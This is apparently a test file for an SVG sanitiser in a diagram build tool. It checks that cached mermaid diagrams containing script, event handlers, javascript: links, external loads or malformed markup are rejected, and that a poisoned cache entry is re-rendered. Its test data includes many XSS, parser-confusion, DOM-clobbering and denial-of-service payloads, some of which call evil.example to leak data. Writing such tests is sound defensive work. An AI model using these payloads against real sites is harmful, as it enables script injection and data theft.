// A cached SVG is published only when it holds nothing that runs script or loads from elsewhere;
// and a poisoned cache entry is rendered again, never published.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { diagramFigure, figureHtml } from '../../../src/diagrams/figure.ts';
import { THEMES } from '../../../src/diagrams/keys.ts';
import { prepareDiagrams } from '../../../src/diagrams/prepare.ts';
import { DiagramStore } from '../../../src/diagrams/store.ts';
import { unsafeSvg } from '../../../src/diagrams/svg-safety.ts';
import { requireBrowser } from './browser-required.ts';

const REPO = join(import.meta.dirname, '../../..');

const MERMAID_LIKE =
	'<svg id="__PBID__pbsvg" width="100%" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 60" role="graphics-document document" aria-roledescription="flowchart-v2">' +
	'<style>#__PBID__pbsvg{fill:#333;}#__PBID__pbsvg .node>rect{filter:url(#__PBID__pbsvg-drop-shadow);}</style>' +
	'<g><marker id="__PBID__pbsvg-pointEnd" viewBox="0 0 10 10"><path d="M 0 0 L 10 5 L 0 10 z"></path></marker>' +
	'<path d="M10,30L90,30" marker-end="url(#__PBID__pbsvg-pointEnd)" style="fill:none;stroke:red"></path>' +
	'<a xlink:href="https://example.com/"><g class="node"><rect width="40" height="20"/><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><span>A &lt;b&gt; onclick=x</span></div></foreignObject></g></a>' +
	'<use href="#__PBID__pbsvg-pointEnd"></use><image href="data:image/png;base64,iVBORw0KGgo="></image></g></svg>';

describe('unsafeSvg', () => {
	it('ok: what mermaid draws (styles, markers, links, HTML labels)', () => {
		expect(unsafeSvg(MERMAID_LIKE)).toBeUndefined();
		expect(unsafeSvg(MERMAID_LIKE.replaceAll('__PBID__', ''))).toBeUndefined();
		expect(unsafeSvg(MERMAID_LIKE, { template: true })).toBeUndefined();
		// A KaTeX formula in a label, the markdown and HTML of labels, and an accessible title.
		const labels =
			'<svg xmlns="http://www.w3.org/2000/svg"><title>Retry &amp; wait</title><foreignObject><div xmlns="http://www.w3.org/1999/xhtml"><span><math xmlns="http://www.w3.org/1998/Math/MathML"><semantics><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow><annotation encoding="application/x-tex">x^2</annotation></semantics></math></span>' +
			'<p><strong>bold</strong> <em>it</em><br/>next<br>line</p></div></foreignObject><text xml:space="preserve"><tspan>a &lt; b</tspan></text></svg>';
		expect(unsafeSvg(labels)).toBeUndefined();
	});

	it.each([
		['<svg><script>alert(1)</script></svg>', 'it holds a <script> element'],
		['<svg><svg:script>alert(1)</svg:script></svg>', 'it holds a <svg:script> element'],
		['<svg ONLOAD="alert(1)"></svg>', 'it holds an event-handler attribute (onload)'],
		['<svg><g onmouseover=alert(1)></g></svg>', 'it holds an event-handler attribute (onmouseover)'],
		['<svg/onload=alert(1)></svg>', 'it is not well-formed markup (unexpected-solidus-in-tag at line 1, column 6)'],
		['<svg><foreignObject><img src="https://a.example/x.png" onerror="alert(1)"></foreignObject></svg>', 'its <img> src loads from outside the diagram'],
		['<svg><foreignObject><img onerror="alert(1)" src="#x"></foreignObject></svg>', 'it holds an event-handler attribute (onerror)'],
		// An attack on the cache: each of these, with a valid digest, was published and loaded from
		// another site on every page view.
		['<svg><image href="https://evil.example/P7.png"/></svg>', 'its <image> href loads from outside the diagram'],
		['<svg><use href="https://evil.example/P8.svg#a"/></svg>', 'its <use> href loads from outside the diagram'],
		['<svg><use xlink:href="//evil.example/P8.svg#a"/></svg>', 'its <use> xlink:href loads from outside the diagram'],
		['<svg><filter><feImage href="https://evil.example/P16.png"/></filter></svg>', 'its <feimage> href loads from outside the diagram'],
		['<svg><style>.x{background:image-set("https://evil.example/P14.png" 1x)}</style></svg>', 'its CSS holds "image-set("'],
		['<svg><style>.y{background:u\\72l(https://evil.example/P24.png)}</style></svg>', 'its CSS loads a url() from outside the diagram'],
		['<svg><style>.y{background:u\\rl(https://evil.example/P24.png)}</style></svg>', 'its CSS loads a url() from outside the diagram'],
		['<svg><g style="background:u&#114;l(https://evil.example/P25.png)"></g></svg>', 'its CSS loads a url() from outside the diagram'],
		['<svg><style>.z{background:url&lpar;https://evil.example/P26.png)}</style></svg>', 'its CSS loads a url() from outside the diagram'],
		['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'its xlink:href is a link to "javascript:alert(1)", not to a web or mail address or a page of the site'],
		['<svg><a href="&#106;avascript:alert(1)">x</a></svg>', 'its href is a link to "javascript:alert(1)", not to a web or mail address or a page of the site'],
		['<svg><a href="java&#9;script:alert(1)">x</a></svg>', 'its href is a link to "java\tscript:alert(1)", not to a web or mail address or a page of the site'],
		['<svg><image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/></svg>', 'its <image> href is a data: URL that is not a PNG, JPEG, GIF or WebP image'],
		['<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', 'it holds a <animate> element'],
		['<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>', 'it holds a <iframe> element'],
		['<svg><style>@import url(https://evil.example/a.css);</style></svg>', 'its CSS holds "@import"'],
		['<svg><style>g{background:url(https://evil.example/?leak)}</style></svg>', 'its CSS loads a url() from outside the diagram'],
		['<svg><g style="fill:url(&quot;https://evil.example&quot;)"></g></svg>', 'its CSS loads a url() from outside the diagram'],
		['<svg><g></g>', 'it does not end with </svg> (a truncated file)'],
		['<?xml version="1.0"?><svg></svg>', 'it does not start with <svg>'],
		['<svg><!-- open </svg>', 'it is not well-formed markup (eof-in-comment at line 1, column 22)'],
		['<svg/>', 'it does not end with </svg> (a truncated file)'],
		// Attack h32: markup that a browser's HTML parser reads differently from a tag scanner.
		['<svg><style><img src=x onerror=alert(1)></style></svg>', 'it holds markup outside its <svg> (line 1, column 13: "<img src=x onerror=alert")'],
		['<svg><style><image href="https://evil.example/x.png"/></style></svg>', 'its <style> holds markup'],
		['<svg><foreignObject><div><![CDATA[ x ><img src=x onerror=alert(1)> ]]></div></foreignObject></svg>', 'it is not well-formed markup (cdata-in-html-content at line 1, column 34)'],
		['<svg><!--><image href="https://evil.example/x.png"/><!-- --></svg>', 'it is not well-formed markup (abrupt-closing-of-empty-comment at line 1, column 10)'],
		// Attack h33: what the page's string edits (ids prefixed, the root's role replaced) turn
		// into markup. A prefix ends in "-", so "__PBID__->" closes a comment.
		['<svg><!-- __PBID__-><script>alert(1)</script> --></svg>', 'it holds a comment (line 1, column 6), which mermaid never writes'],
		['<svg data-x="><script>alert(1)</script>"><g></g></svg>', 'its <svg> at line 1, column 1 is not written as mermaid writes a tag (each value in double quotes, no < or > in one)'],
		[`<svg a=' role="' b="' onload=alert(1) x='" c='"'><g></g></svg>`, 'its <svg> at line 1, column 1 is not written as mermaid writes a tag (each value in double quotes, no < or > in one)'],
		[`<svg data-x="it's"><g></g></svg>`, 'its <svg> at line 1, column 1 is not written as mermaid writes a tag (each value in double quotes, no < or > in one)'],
		// A quadratic case of the metrics' expressions: "<style" in values, never closed.
		[`<svg><g data-x="${'<style'.repeat(3)}"></g></svg>`, 'its <g> at line 1, column 6 is not written as mermaid writes a tag (each value in double quotes, no < or > in one)'],
		// An inline <style> styles the whole page: every rule must select inside the diagram.
		['<svg id="d"><style>figure.diagram ~ p{display:none}</style></svg>', 'its CSS styles the page outside the diagram (a rule not under #d)'],
		['<svg id="d"><style>#d ~ p{display:none}</style></svg>', 'its CSS styles the page outside the diagram (a rule not under #d)'],
		['<svg id="d"><style>#d .a, body{display:none}</style></svg>', 'its CSS styles the page outside the diagram (a rule not under #d)'],
		['<svg><style>#d .a{display:none}</style></svg>', "its CSS styles the page outside the diagram (a rule not under #the svg's id)"],
		['<svg id="d"><style>#d{& ~ p{display:none}}</style></svg>', 'its CSS nests a rule in another'],
		['<svg id="d"><style>@font-face{font-family:x;src:local(x)}</style></svg>', 'its CSS holds "@font-face"'],
		['<svg id="d"><style>#d{}} body{display:none}</style></svg>', 'its CSS is not well-formed (Selector is expected)'],
		// Attack h35: an overlay over the whole page, a rule nested after a declaration (css-tree
		// reads it as the declaration's value), and url()s that only look like #ids.
		['<svg id="d" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647"></svg>', 'its CSS takes an element out of the diagram (position: fixed or sticky)'],
		['<svg id="d"><style>#d{position: sticky}</style></svg>', 'its CSS takes an element out of the diagram (position: fixed or sticky)'],
		['<svg id="d"><style>#d{fill:#000;html:not(&amp;) body{visibility:hidden}}</style></svg>', 'its CSS nests a rule in another'],
		['<svg><foreignObject><div style="background-image:url(&#160;#x)"></div></foreignObject></svg>', 'its CSS loads a url() from outside the diagram'],
		['<svg id="d"><style>#d a{background:url("\'#y")}</style></svg>', 'its CSS loads a url() from outside the diagram'],
		// A named <img> replaces one of document's own properties.
		['<svg><foreignObject><div><img name="getElementById" src=""/></div></foreignObject></svg>', 'its <img> has a name attribute'],
		['<svg><!-- a --!><image href="https://evil.example/x.png"/><!-- --></svg>', 'it is not well-formed markup (incorrectly-closed-comment at line 1, column 16)'],
		['<svg><foreignObject><img srcset="https://evil.example/x.png 1x"></foreignObject></svg>', 'its <img> srcset loads from outside the diagram'],
		['<svg><rect fill="url(https://evil.example/p.svg#g)"/></svg>', 'its CSS loads a url() from outside the diagram'],
		['<svg><g filter="url(//evil.example/f.svg#f)"></g></svg>', 'its CSS loads a url() from outside the diagram'],
		// Alone the parser ignores an end tag that closes nothing; in a page it closes the figure
		// around the diagram, and the <style> after it is HTML, whose text ends at "</style>".
		['<svg></figure><style><g id="</style><img src=x onerror=alert(1)>"></g></style></svg>', 'it is not well-formed markup (line 1, column 6: "</figure><style><g id=\"<" is not read as written)'],
		['<svg><g></svg>', 'it is not well-formed markup (the <g> at line 1, column 6 is not closed by its own end tag)'],
		['<svg><foreignObject><div/></foreignObject></svg>', 'it is not well-formed markup (non-void-html-element-start-tag-with-trailing-solidus at line 1, column 21)'],
		['<svg><foreignObject><b><i></b></i></foreignObject></svg>', 'it is not well-formed markup (the <i> at line 1, column 24 is not closed by its own end tag)'],
		['<svg><foreignObject><table><tr><td>x</td></tr></table></foreignObject></svg>', 'it is not well-formed markup (the parser adds a <tbody> near line 1, column 28 that is not written)'],
		['<svg></svg><img src=x onerror=alert(1)>', 'it does not end with </svg> (a truncated file)'],
		['<svg></svg><svg></svg>', 'it holds markup outside its <svg> (line 1, column 12: "<svg></svg>")'],
		['<svg><!DOCTYPE svg><g></g></svg>', 'it is not well-formed markup (line 1, column 6: "<!DOCTYPE svg><g></g></s" is not read as written)'],
		['<svg><?xml-stylesheet href="https://evil.example/a.css"?></svg>', 'it is not well-formed markup (unexpected-question-mark-instead-of-tag-name at line 1, column 7)'],
		// Read as XML (the full-size file), a namespace may make an element something else.
		['<svg><g xmlns="http://www.w3.org/1999/xhtml"></g></svg>', 'its <g> declares the namespace xmlns="http://www.w3.org/1999/xhtml"'],
		['<svg xmlns:x="http://www.w3.org/2000/svg"><x:script>alert(1)</x:script></svg>', 'its <svg> declares the namespace xmlns:x="http://www.w3.org/2000/svg"'],
		['<svg><a foo:href="javascript:alert(1)">x</a></svg>', 'its <a> has an attribute of an unknown namespace (foo:href)'],
		['<svg><foreignObject><math><annotation-xml encoding="text/html"><p>x</p></annotation-xml></math></foreignObject></svg>', 'it holds a <annotation-xml> element'],
		['<svg><foreignObject><div><style>p{}</style></div></foreignObject></svg>', 'it holds a <style> element'],
		['<svg><foreignObject><div><noscript>x</noscript></div></foreignObject></svg>', 'it holds a <noscript> element'],
		['<svg><set attributeName="href" to="javascript:alert(1)"/></svg>', 'it holds a <set> element'],
	])('not ok: %s', (svg, reason) => {
		expect(unsafeSvg(svg)).toBe(reason);
	});

	// Attack h35's false refusals: what mermaid writes for links to pages of the site and mail, for a
	// themeCSS that steps to a sibling inside the diagram, and for an anchor in a label.
	it('ok: links relative to the site or to mail, sibling steps inside the diagram, a named <a>', () => {
		for (const href of ['/relative/page', 'other-page/', '../a.html', 'mailto:x@example.com', 'https://example.com/a?b=c#d']) {
			expect(unsafeSvg(`<svg><a xlink:href="${href}"><text>x</text></a></svg>`), href).toBeUndefined();
		}
		expect(unsafeSvg('<svg id="d"><style>#d .edgeLabel+.edgeLabel{color:red}#d .node~.node{fill:red}</style></svg>')).toBeUndefined();
		expect(unsafeSvg('<svg><foreignObject><div><a name="anchor">n</a></div></foreignObject></svg>')).toBeUndefined();
	});

	it('as a cached template: every id is one the build gave it, so none takes a name the page uses', () => {
		expect(unsafeSvg('<svg id="__PBID__pbsvg"><g id="__PBID__a"></g></svg>', { template: true })).toBeUndefined();
		expect(unsafeSvg('<svg id="__PBID__pbsvg"><g id="getElementById"></g></svg>', { template: true })).toBe('its id "getElementById" is not one the build gave it');
		expect(unsafeSvg('<svg id="__PBID__pbsvg"><g id="getElementById"></g></svg>')).toBeUndefined();
	});

	it('a raster data: image is part of the drawing; an SVG one, or one of another site, is not', () => {
		expect(unsafeSvg('<svg><foreignObject><div><img src="data:image/png;base64,iVBORw0KGgo="/></div></foreignObject></svg>')).toBeUndefined();
		expect(unsafeSvg('<svg><image href="data:image/svg+xml;base64,PHN2Zy8+"></image></svg>')).toBe('its <image> href is a data: URL that is not a PNG, JPEG, GIF or WebP image');
	});

	it('not ok, before parsing or at the first error: what would take the parser seconds', () => {
		expect(unsafeSvg(`<svg>${'<g>'.repeat(1_000_000)}</svg>`)).toBe('it nests elements more than 256 deep (line 1, column 3075)');
		expect(unsafeSvg(`<svg>${'<g></g>'.repeat(100_001)}</svg>`)).toBe('it holds more than 200,000 tags');
		// A tag name the parser would build character by character (`<a<a<a…` is one name).
		expect(unsafeSvg(`<svg>${'<a'.repeat(400_000)}</svg>`)).toBe('it holds a tag whose name is longer than 64 characters (line 1, column 6)');
		// The first parse error ends the parse (800,000 attributes, each compared with those before it).
		expect(unsafeSvg(`<svg>${'<a b'.repeat(800_000)}</svg>`)).toBe('it is not well-formed markup (unexpected-character-in-attribute-name at line 1, column 10)');
	});

	it('not ok: elements nested deeper than a browser keeps them (it reparents from 512)', () => {
		const nested = (depth: number) => `<svg>${'<g>'.repeat(depth)}${'</g>'.repeat(depth)}</svg>`;
		expect(unsafeSvg(nested(255))).toBeUndefined();
		expect(unsafeSvg(nested(600))).toBe('it nests elements more than 256 deep (line 1, column 771)');
	});
});

describe('a poisoned cache entry (Chromium)', () => {
	it('is rendered again, with a warning, and the page never gets it', async () => {
		const browser = await requireBrowser();
		const cacheDir = mkdtempSync(join(tmpdir(), 'pb-poison-'));
		const source = 'flowchart LR\n  Poisoned --> Cache';
		const warm = new DiagramStore({ root: REPO, cacheDir });
		await prepareDiagrams(warm, [{ source, path: 'content/a.mdx', line: 1, column: 1 }], { discover: async () => ({ path: browser, tried: [] }) });
		// What a branch that can write the CI cache does: inject script, and recompute the plain digest.
		for (const theme of THEMES) {
			const key = warm.key(source, theme);
			const svg = readFileSync(warm.cache.path(key), 'utf8').replace(/^.*\n/, '').replace('<g', '<g><script>alert(document.domain)</script><image href="https://x.example/a.png" onerror="alert(1)"/><g');
			const digest = createHash('sha256').update(`${key}\0${svg}`).digest('hex');
			writeFileSync(warm.cache.path(key), `<!--phasebook-cache sha256:${digest}-->\n${svg}`);
		}
		const warnings: string[] = [];
		const original = console.warn;
		console.warn = (message: string) => warnings.push(message);
		try {
			const store = new DiagramStore({ root: REPO, cacheDir });
			expect(store.isCached(source)).toBe(false);
			const prepared = await prepareDiagrams(store, [{ source, path: 'content/a.mdx', line: 1, column: 1 }], { discover: async () => ({ path: browser, tried: [] }) });
			expect(prepared.rendered).toBe(1);
			const html = figureHtml(diagramFigure(new DiagramStore({ root: REPO, cacheDir }), source, { scope: 'content/a.mdx', index: 0 })!);
			expect(html).toContain('Poisoned');
			expect(html).not.toMatch(/<script|onerror/i);
		} finally {
			console.warn = original;
		}
		expect(warnings).toEqual([
			expect.stringMatching(/^\[phasebook:diagrams\] Discarded the cached diagram .*\.svg: it holds a <script> element; it is rendered again\.$/),
			expect.stringMatching(/^\[phasebook:diagrams\] Discarded the cached diagram .*\.svg: it holds a <script> element; it is rendered again\.$/),
		]);
	}, 120_000);
});
